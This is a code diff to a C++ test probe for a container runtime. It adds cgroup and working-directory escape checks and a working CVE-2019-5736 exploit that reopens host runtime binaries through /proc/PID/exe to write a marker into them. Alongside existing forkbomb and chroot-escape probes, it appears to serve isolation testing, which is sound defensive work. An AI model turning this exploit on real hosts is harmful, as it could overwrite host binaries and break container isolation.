@@ -16,8 +16,28 @@
 //   probe spin SECONDS     burn CPU for SECONDS of wall time
 //   probe sleep SECONDS    sleep (with a handler for SIGTERM: exit 143)
 //   probe chroot-escape F  try the classic chroot break-out and read F
+//   probe cgroup-first [S] /proc/self/cgroup, read before anything else in
+//                          main(); then sleep S seconds (as `sleep`)
+//   probe cwd PATH...      "cwd DIR" (what getcwd() says, or "cwd error
+//                          ENOENT"), then, each PATH taken relative (a host
+//                          path without its "/"), "reached REL" for the first
+//                          of PATH, ../PATH, ../../PATH, ... (up to 64 levels
+//                          up) that exists from our working directory, or
+//                          "reached nothing" when none of them does
+//   probe exe-attack S     CVE-2019-5736, for S seconds or until SIGTERM: hold
+//                          /proc/PID/exe (O_PATH) of every process running a
+//                          binary from outside our root filesystem, try to open
+//                          it for writing, and keep trying to reopen the held
+//                          descriptors for writing (/proc/self/fd/N), appending
+//                          a marker when that works; then report, one line each:
+//                          "targets N", "held N", "exe DEV:INO" per binary held,
+//                          "open-exe OUTCOME=N ...", "reopen OUTCOME=N ...",
+//                          "last-reopen OUTCOME=N ..." (a round over all held
+//                          at the end or on SIGTERM), "write OUTCOME=N ...",
+//                          "written N" (OUTCOME: ok or an errno name)
 #include <dirent.h>
 #include <fcntl.h>
+#include <limits.h>
 #include <net/if.h>
 #include <signal.h>
 #include <sys/ioctl.h>
@@ -32,7 +52,10 @@
 #include <cstdio>
 #include <cstdlib>
 #include <cstring>
+#include <map>
+#include <set>
 #include <string>
+#include <utility>
 #include <vector>
 
 namespace {
@@ -186,7 +209,8 @@ void on_term(int) { _exit(143); }
 
 int cmd_sleep(double seconds) {
     signal(SIGTERM, on_term);  // PID 1 needs a handler to be stoppable
-    timespec ts{static_cast<time_t>(seconds), static_cast<long>((seconds - static_cast<long>(seconds)) * 1e9)};
+    auto whole = static_cast<time_t>(seconds);
+    timespec ts{whole, static_cast<long>((seconds - static_cast<double>(whole)) * 1e9)};
     while (nanosleep(&ts, &ts) != 0 && errno == EINTR) {
     }
     return 0;
@@ -213,13 +237,206 @@ int cmd_chroot_escape(const char* file) {
     return cat(file) == 0 ? 0 : 1;
 }
 
+// What a working directory reaches: getcwd(), and which of `paths` (each
+// relative to "/" of the host) exist from here, looking up to 64 levels up.
+int cmd_cwd(int count, char** paths) {
+    char buf[PATH_MAX];
+    if (getcwd(buf, sizeof buf) != nullptr) {
+        std::printf("cwd %s\n", buf);
+    } else {
+        std::printf("cwd error %s\n", strerrorname_np(errno));
+    }
+    bool any = false;
+    for (int i = 0; i < count; ++i) {
+        std::string rel = paths[i];
+        rel.erase(0, rel.find_first_not_of('/'));
+        std::string up;
+        for (int level = 0; level <= 64; ++level, up += "../") {
+            struct stat st {};
+            if (lstat((up + rel).c_str(), &st) == 0) {
+                std::printf("reached %s\n", (up + rel).c_str());
+                any = true;
+                break;
+            }
+        }
+    }
+    if (!any) {
+        std::printf("reached nothing\n");
+    }
+    return 0;
+}
+
+volatile sig_atomic_t attack_stop = 0;
+void on_attack_term(int) { attack_stop = 1; }
+
+// "ok=1 ETXTBSY=20": how often each outcome came.
+std::string outcomes(const std::map<std::string, long>& counts) {
+    std::string out;
+    for (const auto& [what, n] : counts) {
+        out += " " + what + "=" + std::to_string(n);
+    }
+    return out;
+}
+
+const char* errno_name(int err) {
+    const char* name = strerrorname_np(err);
+    return name != nullptr ? name : "E?";
+}
+
+// CVE-2019-5736: a runtime that enters the container runs, until its execve
+// (or, through a `#!/proc/self/exe` script, again), from the host's binary.
+// Its /proc/PID/exe can be opened here with O_PATH; while it runs, a write
+// open fails (ETXTBSY), but once it has exited, reopening the held
+// descriptor through /proc/self/fd/N for writing works, unless the binary
+// came from a read-only mount.
+int cmd_exe_attack(double seconds) {
+    signal(SIGTERM, on_attack_term);  // the test stops us early: report then
+    struct stat self {};
+    struct stat root {};
+    if (stat("/proc/self/exe", &self) != 0 || stat("/", &root) != 0) {
+        std::perror("stat(/proc/self/exe, /)");
+        return 2;
+    }
+    struct Held {
+        int fd;
+        bool done;
+    };
+    std::vector<Held> held;
+    std::set<long> seen;  // PIDs looked at, each once
+    std::set<std::pair<unsigned long, unsigned long>> files;
+    std::map<std::string, long> open_exe, reopen, last_reopen, write_result;
+    long written = 0;
+    const std::string marker = "\nminidocker-probe-exe-attack-was-here\n";
+
+    // Appends the marker through `fd`, open for writing, and closes it.
+    auto append_marker = [&](int fd) {
+        off_t at = lseek(fd, 0, SEEK_END);
+        if (at >= 0 && pwrite(fd, marker.data(), marker.size(), at) == static_cast<ssize_t>(marker.size())) {
+            ++write_result["ok"];
+            ++written;
+        } else {
+            ++write_result[errno_name(errno)];
+        }
+        close(fd);
+    };
+    // Reopens for writing the held descriptors not yet written through (with
+    // `all`, every one; still writing only through the others).
+    auto try_reopen = [&](std::map<std::string, long>& result, bool all) {
+        for (Held& h : held) {
+            if (h.done && !all) {
+                continue;
+            }
+            int fd = open(("/proc/self/fd/" + std::to_string(h.fd)).c_str(), O_WRONLY | O_CLOEXEC);
+            if (fd < 0) {
+                ++result[errno_name(errno)];
+                continue;
+            }
+            ++result["ok"];
+            if (h.done) {
+                close(fd);
+                continue;
+            }
+            h.done = true;
+            append_marker(fd);
+        }
+    };
+
+    double end = now() + seconds;
+    double next_reopen = 0;
+    while (!attack_stop && now() < end) {
+        DIR* d = opendir("/proc");
+        if (d == nullptr) {
+            std::perror("/proc");
+            return 2;
+        }
+        while (dirent* e = readdir(d)) {
+            char* tail = nullptr;
+            long pid = std::strtol(e->d_name, &tail, 10);
+            if (*tail != '\0' || pid <= 0 || pid == getpid() || seen.count(pid) != 0) {
+                continue;
+            }
+            std::string exe = "/proc/" + std::string(e->d_name) + "/exe";
+            struct stat st {};
+            if (stat(exe.c_str(), &st) != 0) {
+                continue;  // gone, or not yet exec'd into anything we can see
+            }
+            if ((st.st_dev == self.st_dev && st.st_ino == self.st_ino) || st.st_dev == root.st_dev) {
+                continue;  // ourselves, or a program of the image (busybox)
+            }
+            seen.insert(pid);
+            if (held.size() < 256) {
+                int fd = open(exe.c_str(), O_PATH | O_CLOEXEC);
+                if (fd >= 0) {
+                    held.push_back({fd, false});
+                    files.insert({static_cast<unsigned long>(st.st_dev), static_cast<unsigned long>(st.st_ino)});
+                }
+            }
+            int fd = open(exe.c_str(), O_WRONLY | O_CLOEXEC);
+            if (fd < 0) {
+                ++open_exe[errno_name(errno)];
+            } else {
+                ++open_exe["ok"];
+                append_marker(fd);
+            }
+        }
+        closedir(d);
+        if (now() >= next_reopen) {
+            try_reopen(reopen, false);  // works only once no process runs the binary
+            next_reopen = now() + 0.02;
+        }
+    }
+    try_reopen(last_reopen, true);  // a last time, all: by now what we held has surely exited
+    std::printf("targets %zu\n", seen.size());
+    std::printf("held %zu\n", held.size());
+    for (const auto& [dev, ino] : files) {
+        std::printf("exe %lu:%lu\n", dev, ino);
+    }
+    std::printf("open-exe%s\n", outcomes(open_exe).c_str());
+    std::printf("reopen%s\n", outcomes(reopen).c_str());
+    std::printf("last-reopen%s\n", outcomes(last_reopen).c_str());
+    std::printf("write%s\n", outcomes(write_result).c_str());
+    std::printf("written %ld\n", written);
+    return 0;
+}
+
+// Prints /proc/self/cgroup with nothing but system calls: main() calls this
+// before it does anything else, so what it prints is the cgroup the runtime
+// had us in when our first instruction ran.
+int cmd_cgroup_first(const char* sleep_for) {
+    static char buf[65536];
+    int fd = open("/proc/self/cgroup", O_RDONLY | O_CLOEXEC);
+    ssize_t size = 0;
+    for (ssize_t n = 1; fd >= 0 && n > 0 && size < static_cast<ssize_t>(sizeof buf);) {
+        n = read(fd, buf + size, sizeof buf - static_cast<size_t>(size));
+        size += n > 0 ? n : 0;
+    }
+    if (fd < 0) {
+        std::perror("/proc/self/cgroup");
+        return 1;
+    }
+    close(fd);
+    for (ssize_t done = 0; done < size;) {
+        ssize_t n = write(STDOUT_FILENO, buf + done, static_cast<size_t>(size - done));
+        if (n <= 0) {
+            return 1;
+        }
+        done += n;
+    }
+    return sleep_for != nullptr ? cmd_sleep(std::atof(sleep_for)) : 0;
+}
+
 }  // namespace
 
 int main(int argc, char** argv) {
+    // Before anything else: see cmd_cgroup_first.
+    if (argc >= 2 && std::strcmp(argv[1], "cgroup-first") == 0) {
+        return cmd_cgroup_first(argc > 2 ? argv[2] : nullptr);
+    }
     if (argc < 2) {
         std::fprintf(
             stderr,
-            "usage: probe pid|pids|ns|hostname|fds|cgroup|lo|memhog N|forkbomb N|spin S|sleep S|chroot-escape F\n");
+            "usage: probe pid|pids|ns|hostname|fds|cgroup|lo|memhog N|forkbomb N|spin S|sleep S|chroot-escape F|"
+            "cgroup-first [S]|cwd PATH...|exe-attack S\n");
         return 2;
     }
     std::string cmd = argv[1];
@@ -228,32 +445,48 @@ int main(int argc, char** argv) {
         std::printf("%d\n", getpid());
         return 0;
     }
-    if (cmd == "pids")
+    if (cmd == "pids") {
         return cmd_pids();
-    if (cmd == "ns")
+    }
+    if (cmd == "ns") {
         return cmd_ns();
+    }
     if (cmd == "hostname") {
         char name[256] = {};
         gethostname(name, sizeof name - 1);
         std::printf("%s\n", name);
         return 0;
     }
-    if (cmd == "fds")
+    if (cmd == "fds") {
         return cmd_fds();
-    if (cmd == "cgroup")
+    }
+    if (cmd == "cgroup") {
         return cat("/proc/self/cgroup");
-    if (cmd == "lo")
+    }
+    if (cmd == "lo") {
         return cmd_lo();
-    if (cmd == "memhog")
+    }
+    if (cmd == "memhog") {
         return cmd_memhog(std::atol(arg));
-    if (cmd == "forkbomb")
+    }
+    if (cmd == "forkbomb") {
         return cmd_forkbomb(std::atol(arg));
-    if (cmd == "spin")
+    }
+    if (cmd == "spin") {
         return cmd_spin(std::atof(arg));
-    if (cmd == "sleep")
+    }
+    if (cmd == "sleep") {
         return cmd_sleep(std::atof(arg));
-    if (cmd == "chroot-escape")
+    }
+    if (cmd == "chroot-escape") {
         return cmd_chroot_escape(arg);
+    }
+    if (cmd == "cwd") {
+        return cmd_cwd(argc - 2, argv + 2);
+    }
+    if (cmd == "exe-attack") {
+        return cmd_exe_attack(std::atof(arg));
+    }
     std::fprintf(stderr, "probe: unknown command %s\n", cmd.c_str());
     return 2;
 }
